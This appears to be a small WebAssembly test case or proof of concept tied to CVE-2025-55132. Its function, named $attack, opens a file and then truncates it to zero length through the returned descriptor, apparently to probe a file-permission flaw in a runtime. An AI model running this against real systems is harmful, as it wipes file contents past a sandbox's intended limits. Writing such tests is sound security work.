;; Shortens a file there, by a descriptor.
;; stands for: CVE-2025-55132
;; grant: write
;; path: note or note
(func $attack (result i32) (local $error i32)
  (local.set $error (call $open (i32.const 0) (i32.const 0) (i64.const 4194370)))
  (if (local.get $error) (then (return (local.get $error))))
  (call $set_size (i32.load (i32.const 8)) (i64.const 0)))
